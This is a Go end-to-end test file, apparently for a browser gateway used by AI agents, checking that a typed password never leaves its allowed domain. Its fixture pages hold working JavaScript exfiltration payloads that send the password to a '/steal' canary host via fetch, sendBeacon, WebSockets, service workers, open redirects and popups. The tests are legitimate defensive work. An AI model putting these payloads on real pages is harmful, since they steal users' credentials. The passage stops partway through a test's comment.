package main

import (
	"fmt"
	"html"
	"io"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/gorilla/websocket"

	"github.com/browsergate/browsergate/internal/testkit"
)

// secretBoundManifest allows two loopback hosts; its secret may go only to
// the first. 127.0.0.3 is in scope, outside the secret's domains: the
// canary of TestSecretStaysOnItsDomains.
const secretBoundManifest = `
[tool]
name = "e2e"
[browser]
startup_timeout_seconds = 30
[browser.scope]
allowed_domains = ["127.0.0.1", "127.0.0.3", "127.0.0.4"]
allow_private_cidrs = ["127.0.0.1/32", "127.0.0.3/32", "127.0.0.4/32"]
[browser.commands.navigate]
[browser.commands.type_text]
[browser.commands.submit_form]
[browser.commands.click]
[browser.commands.snapshot]
[secrets.PW]
env = "BROWSERGATE_TEST_BOUND_PW"
domains = ["127.0.0.1"]
`

// TestSecretStaysOnItsDomains: once a secret is typed into a page, the
// page can send it nowhere outside the secret's domains, even to a host
// the scope allows: not by a submit handler that rewrites the form's
// action, not by a submit through an image input whose formaction differs
// from the form's action, not by its own fetch or WebSocket, not by a
// beacon, keepalive fetch or WebSocket its pagehide handler sends as the
// agent navigates away to that host. The canary on 127.0.0.3 (in scope, outside the secret's domains) sees nothing.
func TestSecretStaysOnItsDomains(t *testing.T) {
	// Not parallel: t.Setenv.
	const value = "bound-secret-9f27c1"
	t.Setenv("BROWSERGATE_TEST_BOUND_PW", value)
	var canaryHits, afterHits atomic.Int64
	var seenMu sync.Mutex
	var seen []string // what the canary got, for the failure message
	canary, stop, err := serveOn("127.0.0.3:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/after" {
			afterHits.Add(1) // the agent's own navigation, after the page
		} else if r.URL.Path != "/favicon.ico" {
			canaryHits.Add(1)
			seenMu.Lock()
			seen = append(seen, r.Method+" "+r.URL.RequestURI())
			seenMu.Unlock()
		}
		fmt.Fprint(w, "stolen")
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	f := startWith(t, secretBoundManifest)
	steal := canary + "/steal"
	ws := strings.Replace(canary, "http://", "ws://", 1) + "/ws"
	site, log := serveLogged(t, map[string]string{
		"/onsubmit": `<form method=post action="/login" onsubmit="this.action='` + steal + `'"><input type=password id=pw name=pw><button id=go>Sign in</button></form>`,
		"/image":    `<form method=post action="` + steal + `"><input type=password id=pw name=pw><input type=image id=go formaction="/login" alt="Sign in"></form>`,
		// The page keeps the value and moves itself to another page of
		// the site, which sends it.
		"/selfnav": `<input type=password id=pw oninput="sessionStorage.v = this.value; setTimeout(() => { location = '/next'; }, 300)">`,
		"/next":    `<p>next</p><script>fetch('` + steal + `?next=' + encodeURIComponent(sessionStorage.v || '')).catch(() => {});</script>`,
		"/script": `<input type=password id=pw><p id=s>waiting</p><script>
document.getElementById('pw').addEventListener('input', e => {
  const v = e.target.value;
  fetch('` + steal + `?v=' + encodeURIComponent(v)).catch(() => {});
  navigator.sendBeacon('` + steal + `', v);
  try { const s = new WebSocket('` + ws + `'); s.onopen = () => s.send(v); } catch (err) {}
  new Image().src = '` + steal + `?img=' + encodeURIComponent(v);
  document.getElementById('s').textContent = 'sent';
});
// And once more as the agent navigates away, while the tab leaves.
addEventListener('pagehide', () => {
  const v = document.getElementById('pw').value;
  navigator.sendBeacon('` + steal + `?bye', v);
  fetch('` + steal + `?bye-keepalive', {method: 'POST', body: v, keepalive: true}).catch(() => {});
  for (let i = 0; i < 4; i++) {
    try { const s = new WebSocket('` + ws + `?bye' + i); s.onopen = () => s.send(v); } catch (err) {}
  }
});
</script>`,
	})
	for _, page := range []string{"/onsubmit", "/image"} {
		f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + page})
		f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
		f.call(t, "e2e.submit_form", map[string]any{"selector": "#go"})
		f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + page})
		f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
		f.call(t, "e2e.click", map[string]any{"selector": "#go"})
	}
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/selfnav"})
	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
	testkit.Eventually(t, func() string {
		if log.count("/next") == 0 {
			return "the page did not move itself to /next"
		}
		return ""
	})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/script"})
	out := f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
	if !strings.Contains(out, "secret domains") {
		t.Errorf("the page's own requests with the secret were not reported as refused:\n%s", out)
	}
	if n := canaryHits.Load(); n != 0 {
		seenMu.Lock()
		defer seenMu.Unlock()
		t.Fatalf("the host outside the secret's domains got %d request(s): %q", n, seen)
	}
	if log.count("/login") == 0 {
		t.Errorf("no submission reached the secret's own domain: the test proved nothing")
	}
	// The agent leaves the page for the other host: the navigation goes
	// through (and ends the binding), what the page sends as it leaves
	// does not.
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": canary + "/after"})
	if afterHits.Load() == 0 {
		t.Errorf("the agent's navigation to the other allowed host did not go through")
	}
	if n := canaryHits.Load(); n != 0 {
		seenMu.Lock()
		defer seenMu.Unlock()
		t.Fatalf("as the page was left, the host outside the secret's domains got %d request(s): %q", n, seen)
	}
}

// TestSecretPiecesNeverShow: a secret goes only into a password field by
// default, never into a field too short to hold it; on a page that copies
// the typed value into its text and into the field's value attribute (as
// controlled inputs do), no reply shows any six-character piece of it,
// and a selector cannot test its prefix (the oracle is refused). Every
// reply, and the evidence export, is searched for every piece.
func TestSecretPiecesNeverShow(t *testing.T) {
	// Not parallel: t.Setenv.
	const value = "Zq8-Lm2_Vx7-Kp4"
	t.Setenv("BROWSERGATE_TEST_BOUND_PW", value)
	f := startWith(t, strings.Replace(secretBoundManifest, "[browser.commands.snapshot]\n",
		"[browser.commands.snapshot]\n[browser.commands.extract_html]\n[browser.commands.wait_for]\n", 1))
	site, _ := serveLogged(t, map[string]string{
		"/form": `<input id=text><input type=password id=short maxlength=8>
<input type=password id=pw oninput="this.setAttribute('value', this.value); document.getElementById('echo').textContent = this.value.slice(0, 8)">
<p id=echo></p>`,
	})
	var replies []string
	call := func(tool string, args map[string]any) (string, bool) {
		text, refused := f.call(t, tool, args)
		replies = append(replies, text)
		return text, refused
	}
	call("e2e.navigate", map[string]any{"url": site + "/form"})
	if text, refused := call("e2e.type_text", map[string]any{"selector": "#text", "text": "<PW>"}); !refused || !strings.Contains(text, "password fields") {
		t.Errorf("a secret typed into a text field:\n%s", text)
	}
	if text, refused := call("e2e.type_text", map[string]any{"selector": "#short", "text": "<PW>"}); !refused || !strings.Contains(text, "at most 8 characters") {
		t.Errorf("a secret typed into a field that keeps 8 characters:\n%s", text)
	}
	if text, refused := call("e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"}); refused {
		t.Fatalf("a secret typed into a password field on its domain:\n%s", text)
	}
	call("e2e.snapshot", nil)
	call("e2e.extract_html", nil)
	if text, refused := call("e2e.wait_for", map[string]any{"selector": `#pw[value^="Zq"]`, "timeout_ms": 200}); !refused || !strings.Contains(text, "secret oracle") {
		t.Errorf("a selector testing the secret's prefix:\n%s", text)
	}
	f.cs.Close()
	export, code := runBinary(t, "evidence", "export", "--evidence", f.evidence, "--format", "jsonl")
	if code != 0 {
		t.Fatalf("export: exit %d", code)
	}
	for i := 0; i+6 <= len(value); i++ {
		piece := value[i : i+6]
		for _, r := range append(replies, export) {
			if strings.Contains(r, piece) {
				t.Errorf("LEAK: the piece %q of the secret shows in:\n%s", piece, r)
			}
		}
	}
}

// TestSecretLoginRedirectsToAnotherHost: a sign-in form on the secret's
// domain posts the password there, and the server redirects to another
// host of the scope (an application on another host, an SSO hop): the
// redirect is the server's, not the page's, and the application loads.
func TestSecretLoginRedirectsToAnotherHost(t *testing.T) {
	// Not parallel: t.Setenv.
	t.Setenv("BROWSERGATE_TEST_BOUND_PW", "bound-secret-9f27c1")
	app, stopApp, err := serveOn("127.0.0.4:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "<title>App</title>signed in")
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stopApp)
	f := startWith(t, secretBoundManifest)
	site, stop, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/login" && r.Method == http.MethodPost {
			http.Redirect(w, r, app+"/app", http.StatusSeeOther)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<form method=post action="/login"><input type=password id=pw name=pw><button id=go>Sign in</button></form>`)
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/"})
	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
	if out := f.mustAllow(t, "e2e.submit_form", map[string]any{"selector": "#go"}); !strings.Contains(out, `title="App"`) {
		t.Fatalf("the sign-in did not reach the application on the other host:\n%s", out)
	}
}

// TestMaskerIsNoOracle: the agent's own texts come back as it wrote them,
// whether or not they hold a piece of a secret, so that what the masker
// hides cannot tell a right guess from a wrong one: in the reply of the
// call that carries them, and in every later reply of the session — the
// next call's state line shows the URL it navigated to, a search page
// shows its query in its title and text, in either case. A right and a
// wrong guess come back alike, call after call; the evidence masks the
// right guesses all the same.
func TestMaskerIsNoOracle(t *testing.T) {
	// Not parallel: t.Setenv.
	const value = "Zq8-Lm2_Vx7-Kp4"
	t.Setenv("BROWSERGATE_TEST_BOUND_PW", value)
	f := startWith(t, strings.Replace(secretBoundManifest, "[browser.commands.snapshot]\n", "[browser.commands.snapshot]\n[browser.commands.go_back]\n", 1))
	site, _ := serveLogged(t, map[string]string{
		"/search": `<title>Search</title><p id=r></p><p id=u style="text-transform: uppercase"></p><script>
const q = new URLSearchParams(location.search).get('q');
document.title = 'Results for ' + q;
document.getElementById('r').textContent = 'You searched for ' + q;
document.getElementById('u').textContent = q;
</script>`,
	})
	fenceTag := regexp.MustCompile(`PAGE CONTENT [0-9a-f]+`)
	// seen is what the agent gets back for a guess, the guess itself
	// written as GUESS.
	seen := func(guess string) string {
		var b strings.Builder
		for _, c := range []struct {
			tool string
			args map[string]any
		}{
			{"e2e.navigate", map[string]any{"url": site + "/search?q=" + guess}},
			{"e2e.snapshot", nil},
			{"e2e.navigate", map[string]any{"url": site + "/other"}},
			{"e2e.go_back", nil},
			{"e2e.snapshot", nil},
		} {
			b.WriteString(f.mustAllow(t, c.tool, c.args) + "\n")
		}
		out := fenceTag.ReplaceAllString(b.String(), "PAGE CONTENT TAG")
		out = strings.ReplaceAll(out, strings.ToUpper(guess), "UPPER-GUESS")
		return strings.ReplaceAll(out, guess, "GUESS")
	}
	right, wrong := "Zq8-Lm", "Zq8-Lx"
	want := seen(wrong)
	if strings.Contains(want, "secret PW") || !strings.Contains(want, `q=GUESS`) || !strings.Contains(want, "You searched for GUESS") {
		t.Fatalf("the replies to a wrong guess do not show it:\n%s", want)
	}
	for _, guess := range []string{right, "zq8-lm2_v", "Lm2_Vx7-Kp", wrong} {
		if got := seen(guess); got != want {
			t.Errorf("the replies to the guess %q differ from a wrong guess's:\n%s\nwant:\n%s", guess, got, want)
		}
	}
	f.cs.Close()
	export, code := runBinary(t, "evidence", "export", "--evidence", f.evidence, "--format", "jsonl")
	if code != 0 {
		t.Fatalf("export: exit %d", code)
	}
	if strings.Contains(export, right) || strings.Contains(export, "Lm2_Vx7-Kp") || !strings.Contains(export, wrong) {
		t.Errorf("the evidence should mask the right guesses and keep the wrong one:\n%s", export)
	}
}

// TestOpenWebSocketIsCutWhenASecretIsTyped: a page that opened a
// WebSocket to a host of the scope outside the secret's domains before
// the secret was typed cannot send the value through it: the connection
// is closed as the secret goes in.
func TestOpenWebSocketIsCutWhenASecretIsTyped(t *testing.T) {
	// Not parallel: t.Setenv.
	const value = "bound-secret-9f27c1"
	t.Setenv("BROWSERGATE_TEST_BOUND_PW", value)
	var opened, leaked atomic.Int64
	up := websocket.Upgrader{CheckOrigin: func(*http.Request) bool { return true }}
	canary, stop, err := serveOn("127.0.0.3:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c, err := up.Upgrade(w, r, nil)
		if err != nil {
			return
		}
		defer c.Close()
		opened.Add(1)
		for {
			_, msg, err := c.ReadMessage()
			if err != nil {
				return
			}
			if strings.Contains(string(msg), value) {
				leaked.Add(1)
			}
		}
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	f := startWith(t, secretBoundManifest)
	ws := strings.Replace(canary, "http://", "ws://", 1) + "/ws"
	site, _ := serveLogged(t, map[string]string{
		"/ws": `<input type=password id=pw><p id=s>connecting</p><script>
const s = new WebSocket('` + ws + `');
s.onopen = () => { document.getElementById('s').textContent = 'open'; };
document.getElementById('pw').addEventListener('input', e => { try { s.send(e.target.value); } catch (err) {} });
</script>`,
	})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/ws"})
	testkit.Eventually(t, func() string {
		if opened.Load() == 0 {
			return "the page's WebSocket never opened"
		}
		return ""
	})
	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
	f.mustAllow(t, "e2e.snapshot", nil) // a moment for a send to arrive
	if n := leaked.Load(); n != 0 {
		t.Fatalf("the value went out through a WebSocket opened before it was typed (%d message(s))", n)
	}
}

// TestServiceWorkerForgetsTheSite: a service worker the secret's site
// registered is told the value, and sends it a moment after the agent has
// left the site: leaving the site unregisters its service workers, and
// the canary on a host outside the secret's domains gets nothing.
func TestServiceWorkerForgetsTheSite(t *testing.T) {
	// Not parallel: t.Setenv.
	const value = "bound-secret-9f27c1"
	t.Setenv("BROWSERGATE_TEST_BOUND_PW", value)
	var stolen atomic.Int64
	canary, stop, err := serveOn("127.0.0.3:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.Contains(r.URL.RawQuery, "v=") {
			stolen.Add(1)
		}
		fmt.Fprint(w, "ok")
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	other, stopOther, err := serveOn("127.0.0.4:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "<title>elsewhere</title>elsewhere")
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stopOther)
	f := startWith(t, secretBoundManifest)
	site, stopSite, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/sw.js" {
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprintf(w, `self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
self.addEventListener('message', e => {
  const v = e.data;
  for (const ms of [1500, 3000, 4500]) setTimeout(() => fetch(%q + '?v=' + encodeURIComponent(v)).catch(() => {}), ms);
});`, canary+"/sw")
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<input type=password id=pw><p id=s>registering</p><script>
navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then(() => { document.getElementById('s').textContent = 'ready'; });
document.getElementById('pw').addEventListener('input', e => {
  navigator.serviceWorker.ready.then(r => r.active.postMessage(e.target.value));
});
</script>`)
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stopSite)
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/"})
	testkit.Eventually(t, func() string {
		if out := f.mustAllow(t, "e2e.snapshot", nil); !strings.Contains(out, "ready") {
			return "the service worker never became ready"
		}
		return ""
	})
	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": other + "/"})
	time.Sleep(5 * time.Second) // the worker's timers would fire meanwhile
	f.mustAllow(t, "e2e.snapshot", nil)
	if n := stolen.Load(); n != 0 {
		t.Fatalf("the site's service worker sent the value %d time(s) after the agent left the site", n)
	}
}

// TestSecretLeavesOnlyByJudgedNavigation: what lets the tab leave the
// secret's domains is the agent's own navigation to the URL it named, or
// a server's redirect of a navigation the gate judged — not a page that
// moves itself while the agent navigates within the site, not the page's
// own navigation or form post through an open redirect of the site, and
// not a popup the page writes the value into as the agent leaves. The
// canary on 127.0.0.3 (in scope, outside the secret's domains) sees none
// of it.
func TestSecretLeavesOnlyByJudgedNavigation(t *testing.T) {
	// Not parallel: t.Setenv.
	t.Setenv("BROWSERGATE_TEST_BOUND_PW", "bound-secret-9f27c1")
	var seenMu sync.Mutex
	var seen []string
	canary, stop, err := serveOn("127.0.0.3:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/after" && r.URL.Path != "/favicon.ico" {
			seenMu.Lock()
			seen = append(seen, r.Method+" "+r.URL.RequestURI())
			seenMu.Unlock()
		}
		fmt.Fprint(w, "<title>after</title>after")
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	f := startWith(t, secretBoundManifest)
	steal := canary + "/steal"
	site, stopSite, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/redir": // an open redirect of the site
			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
			return
		case "/redir307":
			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusTemporaryRedirect)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, map[string]string{
			"/store": `<input type=password id=pw oninput="sessionStorage.v = this.value">`,
			"/moves": `<script>location.replace('` + steal + `?moves=' + encodeURIComponent(sessionStorage.v || ''));</script>`,
			"/open302": `<input type=password id=pw oninput="const v = this.value; clearTimeout(window.t);
window.t = setTimeout(() => { location = '/redir?to=' + encodeURIComponent('` + steal + `?302=' + encodeURIComponent(v)); }, 300)"><p id=s></p>`,
			"/open307": `<form id=f method=post action="/redir307?to=` + url.QueryEscape(steal+"?307") + `"><input type=password id=pw name=pw
oninput="clearTimeout(window.t); window.t = setTimeout(() => document.getElementById('f').submit(), 300)"></form>`,
			"/popup": `<button id=o onclick="window.w = window.open('', 'p'); w.document.write('<script>setInterval(() => { if (window.v) fetch(\'` + steal + `?popup=\' + encodeURIComponent(window.v)).catch(() => {}); }, 3);<\/script>'); w.document.close();">Notes</button>
<input type=password id=pw oninput="if (window.w) w.v = this.value">`,
		}[r.URL.Path])
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stopSite)
	canarySaw := func() []string {
		seenMu.Lock()
		defer seenMu.Unlock()
		return slices.Clone(seen)
	}
	// The agent navigates within the site; the page it lands on moves
	// itself out with the stored value.
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/store"})
	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
	f.call(t, "e2e.navigate", map[string]any{"url": site + "/moves"})
	// The page's own navigation and form post through the site's open
	// redirect (a moment after the value is typed, between calls).
	for _, page := range []string{"/open302", "/open307"} {
		f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + page})
		f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
		testkit.Eventually(t, func() string {
			// The post is refused as a submission the typing was not
			// judged to make, or its redirect hop as the binding's.
			if text, _ := f.call(t, "e2e.snapshot", nil); !strings.Contains(text, "secret domains") && !strings.Contains(text, "form submission not judged") {
				return "the page's redirect was not refused yet"
			}
			return ""
		})
	}
	// A popup the page writes the value into, sending in a loop as the
	// agent leaves for the canary's host.
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/popup"})
	f.mustAllow(t, "e2e.click", map[string]any{"selector": "#o"})
	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": canary + "/after"})
	f.mustAllow(t, "e2e.snapshot", nil)
	if got := canarySaw(); len(got) != 0 {
		t.Fatalf("the host outside the secret's domains got %d request(s): %q", len(got), got)
	}
}

// TestNoOracleOnTheSecretsSite: after a sign-in that fails, the site
// echoes the typed password back into a field of the next page (a common
// server-side pattern): on that page too, a selector may not test the
// value, and execute_js may not run.
func TestNoOracleOnTheSecretsSite(t *testing.T) {
	// Not parallel: t.Setenv.
	t.Setenv("BROWSERGATE_TEST_BOUND_PW", "Zq8-Lm2_Vx7-Kp4")
	f := startWith(t, strings.Replace(secretBoundManifest, "[browser.commands.snapshot]\n",
		"[browser.commands.snapshot]\n[browser.commands.wait_for]\n[browser.commands.execute_js]\n", 1))
	site, stop, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		r.ParseForm()
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<p>Wrong password</p><form method=post action="/login"><input type=password id=pw name=pw value="%s"><button id=go>Sign in</button></form>`,
			html.EscapeString(r.PostForm.Get("pw")))
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/login"})
	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
	f.mustAllow(t, "e2e.submit_form", map[string]any{"selector": "#go"})
	for _, c := range []struct {
		tool string
		args map[string]any
	}{
		{"e2e.wait_for", map[string]any{"selector": `#pw[value^="Zq8"]`, "timeout_ms": 200}},
		{"e2e.wait_for", map[string]any{"text": "Zq8", "timeout_ms": 200}},
		{"e2e.execute_js", map[string]any{"expression": "document.getElementById('pw').value.split('').join('.')"}},
	} {
		if text, refused := f.call(t, c.tool, c.args); !refused || !strings.Contains(text, "secret oracle") {
			t.Errorf("%s %v on the page the site echoed the password into:\n%s", c.tool, c.args, text)
		}
	}
}

// The tests from here on have a page try to get a typed secret to a
// canary on an in-scope host outside the secret's domains as the tab
// leaves the site, or test the secret with a selector. Each fails (LEAK)
// if the attempt gets through.

const boundSecretValue = "Zq8-Lm2_Vx7-Kp4"

// secretBoundReadManifest is secretBoundManifest (127.0.0.1 is the secret's
// domain; 127.0.0.3 and 127.0.0.4 are in scope, outside it) with the read
// commands and go_back.
var secretBoundReadManifest = strings.Replace(secretBoundManifest, "[browser.commands.snapshot]\n",
	"[browser.commands.snapshot]\n[browser.commands.extract_html]\n[browser.commands.wait_for]\n[browser.commands.go_back]\n", 1)

// recordingCanary is a server on addr that records every request (WebSocket
// handshakes included). A path starting /slow answers after a second.
type recordingCanary struct {
	url  string
	mu   sync.Mutex
	seen []string
}

func newRecordingCanary(t *testing.T, addr string, pages map[string]string) *recordingCanary {
	t.Helper()
	c := &recordingCanary{}
	u, stop, err := serveOn(addr, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 2048))
		c.mu.Lock()
		c.seen = append(c.seen, r.Method+" "+r.URL.RequestURI()+" body="+string(body))
		c.mu.Unlock()
		if strings.HasPrefix(r.URL.Path, "/slow") {
			time.Sleep(time.Second)
		}
		w.Header().Set("Content-Type", "text/html")
		w.Header().Set("Access-Control-Allow-Origin", "*")
		if p, ok := pages[r.URL.Path]; ok {
			fmt.Fprint(w, p)
			return
		}
		fmt.Fprint(w, "<title>canary</title>canary")
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	c.url = u
	return c
}

func (c *recordingCanary) all() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]string(nil), c.seen...)
}

func (c *recordingCanary) hits(sub string) []string {
	var out []string
	for _, s := range c.all() {
		if strings.Contains(s, sub) {
			out = append(out, s)
		}
	}
	return out
}

// leaked returns the requests that carry the secret (raw or escaped).
func (c *recordingCanary) leaked(value string) []string {
	var out []string
	for _, s := range c.all() {
		dec, _ := url.QueryUnescape(s)
		dec2, _ := url.QueryUnescape(dec)
		if strings.Contains(s, value) || strings.Contains(dec, value) || strings.Contains(dec2, value) {
			out = append(out, s)
		}
	}
	return out
}

// openRedirectSite serves pages on 127.0.0.1, with an open redirect
// /redir?to=U, and /echo. Every request is logged by path.
func openRedirectSite(t *testing.T, pages map[string]string) (string, *siteLog) {
	t.Helper()
	log := &siteLog{hits: map[string]int{}}
	site, stop, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		log.mu.Lock()
		log.hits[r.URL.Path]++
		log.mu.Unlock()
		switch r.URL.Path {
		case "/redir":
			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
			return
		case "/redir307":
			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusTemporaryRedirect)
			return
		case "/echo":
			r.ParseForm()
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, `<title>Sign in</title><p>Wrong password</p><input type=password id=h name=pw value="%s">`, html.EscapeString(r.PostForm.Get("pw")))
			return
		}
		w.Header().Set("Content-Type", "text/html")
		w.Header().Set("Cache-Control", "no-store")
		if page, ok := pages[r.URL.Path]; ok {
			fmt.Fprint(w, page)
			return
		}
		fmt.Fprintf(w, "<title>%s</title>%s", r.URL.Path, r.URL.Path)
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	return site, log
}

func reportLeaks(t *testing.T, what string, got []string) {
	t.Helper()
	if len(got) > 0 {
		t.Errorf("LEAK %s: canary saw %d request(s) with the secret: %q", what, len(got), got)
	} else {
		t.Logf("HELD %s", what)
	}
}

func startSecretBound(t *testing.T) *fixture {
	t.Setenv("BROWSERGATE_TEST_BOUND_PW", boundSecretValue)
	return startWith(t, secretBoundReadManifest)
}

// TestSecretAgentNavigationCannotBeRaced: as the agent navigates away, the
// page tries to cancel the emptying and move the tab itself to the
// agent's very destination with the value in the fragment. The emptying is
// the browser's own navigation (not cancelable), and only a request for
// the URL the agent named, fragment included, is the agent's.
func TestSecretAgentNavigationCannotBeRaced(t *testing.T) {
	f := startSecretBound(t)
	canary := newRecordingCanary(t, "127.0.0.3:0", map[string]string{
		"/next": `<title>next</title><script>if (location.hash) fetch('/steal-hash?v=' + location.hash.slice(1));</script>next`,
	})
	next := canary.url + "/next"
	site, _ := openRedirectSite(t, map[string]string{
		"/a": `<title>a</title><p>When signed in, continue at ` + next + `</p>
<input type=password id=pw name=pw>
<script>
navigation.addEventListener('navigate', e => {
  if (window.done) return;
  window.done = 1;
  e.preventDefault();
  location.href = '` + next + `#' + encodeURIComponent(document.getElementById('pw').value);
});
</script>`,
	})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/a"})
	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
	out, refused := f.call(t, "e2e.navigate", map[string]any{"url": next})
	t.Logf("navigate away (refused=%v):\n%s", refused, out)
	time.Sleep(500 * time.Millisecond)
	t.Logf("canary saw: %q", canary.all())
	reportLeaks(t, "page navigates to the agent's own destination + #secret while the gate empties the page", canary.leaked(boundSecretValue))
}

// TestSecretSiteIsNotLeftByAClick: a click on a link off the site a secret
// was typed on is refused (leave with navigate, which empties the page
// first), so the page's pagehide handler never runs after the next page
// commits, when it could send the value.
func TestSecretSiteIsNotLeftByAClick(t *testing.T) {
	f := startSecretBound(t)
	canary := newRecordingCanary(t, "127.0.0.3:0", nil)
	site, _ := openRedirectSite(t, map[string]string{
		"/b": `<title>b</title><input type=password id=pw><a id=l href="` + canary.url + `/help">Help</a>
<script>
addEventListener('pagehide', () => {
  const v = encodeURIComponent(document.getElementById('pw').value);
  fetch('` + canary.url + `/steal-pagehide?v=' + v, {keepalive: true, mode: 'no-cors'}).catch(() => {});
  try { new WebSocket('` + strings.Replace(canary.url, "http", "ws", 1) + `/ws-pagehide?v=' + v); } catch (e) {}
});
</script>`,
	})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/b"})
	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
	out, refused := f.call(t, "e2e.click", map[string]any{"selector": "#l"})
	t.Logf("click (refused=%v):\n%s", refused, out)
	time.Sleep(time.Second)
	f.call(t, "e2e.snapshot", nil)
	t.Logf("canary saw: %q", canary.all())
	reportLeaks(t, "pagehide keepalive fetch / WebSocket after a judged click off the site", canary.leaked(boundSecretValue))
}

// TestSecretNoWebSocketAsAClickLeaves: a page that opens WebSockets to the
// host a click would leave for gets nothing out: the click is refused.
func TestSecretNoWebSocketAsAClickLeaves(t *testing.T) {
	f := startSecretBound(t)
	canary := newRecordingCanary(t, "127.0.0.3:0", nil)
	ws := strings.Replace(canary.url, "http", "ws", 1)
	site, _ := openRedirectSite(t, map[string]string{
		"/w": `<title>w</title><input type=password id=pw><a id=l href="` + canary.url + `/slow-help">Help</a>
<script>
document.getElementById('l').addEventListener('click', () => {
  const v = encodeURIComponent(document.getElementById('pw').value);
  setInterval(() => { try { new WebSocket('` + ws + `/ws-leave?v=' + v); } catch (e) {} }, 20);
});
</script>`,
	})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/w"})
	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
	out, refused := f.call(t, "e2e.click", map[string]any{"selector": "#l"})
	t.Logf("click (refused=%v):\n%s", refused, out)
	time.Sleep(time.Second)
	t.Logf("canary saw: %d requests, ws: %d", len(canary.all()), len(canary.hits("ws-leave")))
	reportLeaks(t, "WebSocket to the host the tab is leaving for, while the navigation is in flight", canary.leaked(boundSecretValue))
}

// TestSecretGoBackIntoACraftedEntry: the page rewrites its history entry
// into an open redirect of its own site carrying the value, then moves on;
